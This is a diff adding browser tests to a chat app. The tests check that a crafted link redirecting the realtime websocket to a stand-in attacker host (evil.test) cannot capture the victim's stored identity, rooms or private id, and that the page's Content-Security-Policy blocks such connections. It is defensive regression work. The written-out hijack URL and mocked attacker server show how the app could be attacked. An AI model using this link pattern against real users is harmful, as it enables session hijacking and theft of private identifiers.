@@ -131,7 +131,106 @@ test("two browsers chat both ways; a third sees nothing of it", async () => {
 test("the page reports a realtime server that goes away", async () => {
   const someone = await person();
   // Point this page's realtime at a port where nothing listens: it must say so, not hang.
+  // (Without the page's Content-Security-Policy, which would refuse the port first.)
   const page = await someone.context.newPage();
+  await page.route(`${BASE}/**`, async (route) => {
+    const response = await route.fetch();
+    const headers = { ...response.headers() };
+    delete headers["content-security-policy"];
+    await route.fulfill({ response, headers });
+  });
   await page.goto(`${BASE}/?api=${encodeURIComponent(BASE)}&key=local-key&wsHost=127.0.0.1&wsPort=9&forceTLS=false`);
   await page.locator('#status[data-state="reconnecting"]').waitFor({ timeout: 10_000 });
+});
+
+// A link that keeps the API but points the realtime settings at another server (the
+// hijack of issue 12): the page must not sign that server's socket into the rooms of
+// the identity it stored, nor ever send that identity's private id along.
+async function victimWithARoom() {
+  const victim = await person();
+  const bob = await person();
+  await connect(victim, bob.publicId);
+  const privateId = await victim.page.evaluate((publicId) => {
+    for (const name of Object.keys(localStorage)) {
+      if (!name.endsWith(":me")) continue;
+      const me = JSON.parse(localStorage.getItem(name));
+      if (me?.publicId === publicId) return me.privateId;
+    }
+    return null;
+  }, victim.publicId);
+  assert.ok(privateId, "the victim's identity is stored");
+  const channel = await victim.page.evaluate(() => {
+    for (const name of Object.keys(localStorage)) {
+      if (name.endsWith(":room")) return `private-${JSON.parse(localStorage.getItem(name)).roomId}`;
+    }
+    return null;
+  });
+  assert.ok(channel, "the victim's room is stored");
+  return { victim, bob, privateId, channel };
+}
+
+const HIJACK = `${BASE}/?api=${encodeURIComponent(BASE)}&key=local-key&wsHost=evil.test&wsPort=6001&forceTLS=false`;
+
+test("a hijack link gets a fresh identity, never the stored one's rooms or private id", async () => {
+  const { victim, bob, privateId, channel } = await victimWithARoom();
+  const page = await victim.context.newPage();
+  const authBodies = [];
+  // The page's own files without their Content-Security-Policy, so that this checks
+  // the page's logic alone (the next test checks the policy).
+  await page.route(`${BASE}/**`, async (route) => {
+    if (route.request().url().endsWith("/pusher/auth")) authBodies.push(route.request().postData() ?? "");
+    const response = await route.fetch();
+    const headers = { ...response.headers() };
+    delete headers["content-security-policy"];
+    await route.fulfill({ response, headers });
+  });
+  // The attacker's realtime server: hands out a socket id and records what it is sent.
+  const subscribes = [];
+  let subscribed;
+  const firstSubscribe = new Promise((resolve) => { subscribed = resolve; });
+  await page.routeWebSocket("ws://evil.test:6001/**", (ws) => {
+    ws.send(JSON.stringify({ event: "pusher:connection_established",
+      data: JSON.stringify({ socket_id: "1234.5678", activity_timeout: 120 }) }));
+    ws.onMessage((text) => {
+      const message = JSON.parse(text);
+      if (message.event !== "pusher:subscribe") return;
+      subscribes.push(message.data);
+      ws.send(JSON.stringify({ event: "pusher_internal:subscription_succeeded", channel: message.data.channel, data: "{}" }));
+      subscribed();
+    });
+  });
+  await page.goto(HIJACK);
+  await page.locator("#my-public-id", { hasText: /^\d{3}-\d{3}$/ }).waitFor();
+  assert.notEqual(await page.locator("#my-public-id").textContent(), victim.publicId, "a fresh identity");
+  await page.locator('#status[data-state="connected"]').waitFor();
+  // A subscription that must reach the attacker's server: any re-entry of the stored
+  // rooms would have come before it.
+  await page.fill("#peer-id", bob.publicId);
+  await page.click("#connect");
+  await firstSubscribe;
+  assert.equal(subscribes.length, 1, JSON.stringify(subscribes));
+  assert.notEqual(subscribes[0].channel, channel, "the victim's room was never subscribed");
+  assert.ok(authBodies.length >= 1, "the page asked for its own signature");
+  for (const body of authBodies) assert.ok(!body.includes(privateId), "the victim's private id never left");
+  // The victim's own page still has its identity and room.
+  await victim.page.reload();
+  await victim.page.locator('#chat[data-joined="true"]').waitFor();
+  assert.equal(await victim.page.locator("#my-public-id").textContent(), victim.publicId);
+});
+
+test("the page's Content-Security-Policy keeps it from connecting anywhere its server did not name", async () => {
+  const { victim } = await victimWithARoom();
+  const page = await victim.context.newPage();
+  const sockets = [];
+  page.on("websocket", (ws) => sockets.push(ws.url()));
+  const authRequests = [];
+  page.on("request", (request) => {
+    if (request.url().endsWith("/pusher/auth")) authRequests.push(request.url());
+  });
+  const violations = page.waitForEvent("console", { predicate: (m) => m.text().includes("Content Security Policy") });
+  await page.goto(HIJACK);
+  await violations;
+  await page.locator('#status[data-state="reconnecting"]').waitFor();
+  assert.deepEqual(sockets.filter((url) => url.includes("evil.test")), [], "no socket to the other server");
+  assert.deepEqual(authRequests, [], "no signature asked for");
 });
